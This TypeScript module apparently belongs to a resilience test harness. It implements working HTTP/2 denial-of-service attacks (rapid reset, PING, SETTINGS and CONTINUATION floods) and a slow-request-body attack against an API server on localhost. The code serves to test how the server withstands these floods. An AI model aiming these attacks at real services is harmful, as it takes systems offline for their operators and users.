// Attacks on connections: HTTP/2 floods and slow request bodies.
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import type { TLSSocket } from 'node:tls';
import {
  endHeaders,
  endStream,
  frame,
  frameType,
  headerBlock,
  preface,
} from '../../../support/http2-frames.ts';
import type { Attacker, LoadKind } from '../attacker.ts';
import { configMaps } from './objects.ts';

/** Between two writes of a flood: about 3 MB/s per attacker. */
const pauseMs = 5;
const writeBytes = 16 * 1024;

/** Floods a connection until the server closes it. */
async function flood(attacker: Attacker, name: string, first: Buffer, next: () => Buffer): Promise<void> {
  const socket = await attacker.connect('h2');
  const closed = once(socket, 'close');
  socket.resume();
  socket.write(Buffer.concat([preface(), first]));
  for (;;) {
    attacker.count(name);
    const isWritten = !socket.destroyed && socket.write(next());
    const drained = isWritten ? sleep(pauseMs) : once(socket, 'drain');
    await Promise.race([drained, closed]);
    if (socket.destroyed) break;
  }
  attacker.count('closed');
}

const many = (one: Buffer) => Buffer.concat(Array<Buffer>(Math.floor(writeBytes / one.length)).fill(one));
const nothing = Buffer.alloc(0);

/** Requests that are reset at once, on further streams. */
function resets(attacker: Attacker): () => Buffer {
  const block = headerBlock(configMaps, { authorization: `Bearer ${attacker.token}` });
  let stream = 1;
  return () => {
    const frames: Buffer[] = [];
    for (let index = 0; index < 50; index++, stream += 2) {
      frames.push(frame(frameType.headers, endHeaders | endStream, stream, block));
      frames.push(frame(frameType.reset, 0, stream, Buffer.from([0, 0, 0, 8])));
    }
    return Buffer.concat(frames);
  };
}

const pings = many(frame(frameType.ping, 0, 0, Buffer.alloc(8)));
const settings = many(frame(frameType.settings, 0, 0));
const openHeaders = frame(frameType.headers, 0, 1, headerBlock(configMaps));
const header = Buffer.concat([
  Buffer.from([0, 1]),
  Buffer.from('x'),
  Buffer.from([100]),
  Buffer.alloc(100, 'y'),
]);
const continuation = frame(frameType.continuation, 0, 1, many(header).subarray(0, 100 * header.length));

const slowConnections = 20;
const slowSockets = new Map<number, TLSSocket[]>();

/** Keeps requests open whose bodies arrive byte by byte. */
async function sendSlowly(attacker: Attacker): Promise<void> {
  const open = (slowSockets.get(attacker.index) ?? []).filter((socket) => !socket.destroyed);
  for (let missing = slowConnections - open.length; missing > 0; missing--) {
    const socket = await attacker.connect();
    socket.resume();
    const head = [
      'host: localhost',
      `authorization: Bearer ${attacker.token}`,
      'content-type: application/json',
    ];
    socket.write(`POST ${configMaps} HTTP/1.1\r\n${head.join('\r\n')}\r\ncontent-length: 1000000\r\n\r\n{`);
    open.push(socket);
    attacker.count('slow body');
  }
  slowSockets.set(attacker.index, open);
  for (const socket of open) socket.write(' ');
  await sleep(100);
}

export const connections: readonly LoadKind[] = [
  {
    name: 'HTTP/2 rapid reset',
    rights: 'namespace',
    attack: (attacker) => flood(attacker, '50 resets', nothing, resets(attacker)),
  },
  {
    name: 'HTTP/2 PING flood',
    rights: 'namespace',
    attack: (attacker) => flood(attacker, '16 KB', nothing, () => pings),
  },
  {
    name: 'HTTP/2 SETTINGS flood',
    rights: 'namespace',
    attack: (attacker) => flood(attacker, '16 KB', nothing, () => settings),
  },
  {
    name: 'HTTP/2 CONTINUATION flood',
    rights: 'namespace',
    attack: (attacker) => flood(attacker, '10 KB', openHeaders, () => continuation),
  },
  { name: 'slow request bodies', rights: 'namespace', attack: sendSlowly },
];
